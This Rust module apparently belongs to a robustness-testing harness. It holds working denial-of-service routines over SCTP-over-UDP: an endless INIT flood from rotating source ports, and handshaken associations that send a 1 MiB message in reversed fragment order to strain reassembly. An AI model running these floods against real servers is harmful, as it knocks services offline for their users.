//! Attacks with packets of SCTP over UDP (RFC 6951).

use std::time::Duration;

use anyhow::ensure;
use tokio::net::UdpSocket;
use tokio::time::{sleep, timeout};

use super::Sent;
use super::packet::{self, Header};
use super::stranger::Host;
use super::target::Aim;

/// Packets between two pauses in which others have their turn.
const BURST: u32 = 64;
/// Octets of the message that comes backwards.
const FRAGMENTS: u32 = 1 << 20;
/// Fragments in a packet of some 1400 octets.
const FRAGMENTS_PER_PACKET: u32 = 68;
/// How long to wait for an answer.
const ANSWER_MAX: Duration = Duration::from_secs(1);
/// Before the next try.
const PAUSE: Duration = Duration::from_millis(10);

async fn socket(aim: &Aim) -> anyhow::Result<UdpSocket> {
    let socket = UdpSocket::bind((Host::Hostile.address(), 0)).await?;
    socket.connect(aim.asap_udp).await?;
    Ok(socket)
}

/// One from each port of SCTP, again and again.
pub(super) async fn inits(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let socket = socket(aim).await?;
    for number in 1_u32.. {
        let [.., high, low] = number.to_be_bytes();
        let source = u16::from_be_bytes([high, low]).max(1);
        let header = Header { source, destination: aim.asap_udp.port(), tag: 0 };
        // Where the way is full, this one need not go.
        if socket.send(&header.packet(&packet::init(number, 1))).await.is_ok() {
            sent.add(1);
        }
        if number % BURST == 0 {
            tokio::task::yield_now().await;
        }
    }
    Ok(())
}

/// Associations, in each of which a message comes with its last octet first.
pub(super) async fn fragments(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    for source in (1024..u16::MAX).cycle() {
        let socket = socket(aim).await?;
        // One that was refused, or cut off, is followed by the next.
        let _ = backwards(aim, &socket, source, sent).await;
        sleep(PAUSE).await;
    }
    Ok(())
}

async fn backwards(aim: &Aim, socket: &UdpSocket, source: u16, sent: &Sent) -> anyhow::Result<()> {
    let destination = aim.asap_udp.port();
    let greeting = Header { source, destination, tag: 0 };
    let own_tag = u32::from(source) | 0x4000_0000;
    let answer = ask(socket, &greeting.packet(&packet::init(own_tag, 1))).await?;
    let (tag, cookie) = packet::init_ack(&answer)?;
    let header = Header { tag, ..greeting };
    let answer = ask(socket, &header.packet(&packet::cookie_echo(&cookie))).await?;
    ensure!(packet::first_chunk(&answer) == Some(packet::COOKIE_ACK), "not up");
    let mut tsn = FRAGMENTS;
    while tsn > FRAGMENTS_PER_PACKET {
        let mut chunks = Vec::new();
        for _ in 0..FRAGMENTS_PER_PACKET {
            chunks.extend(packet::fragment(tsn));
            tsn -= 1;
        }
        socket.send(&header.packet(&chunks)).await?;
        sent.add(u64::from(FRAGMENTS_PER_PACKET));
        tokio::task::yield_now().await;
    }
    Ok(())
}

async fn ask(socket: &UdpSocket, packet: &[u8]) -> anyhow::Result<Vec<u8>> {
    socket.send(packet).await?;
    let mut answer = vec![0; 2048];
    let length = timeout(ANSWER_MAX, socket.recv(&mut answer)).await??;
    answer.truncate(length);
    Ok(answer)
}
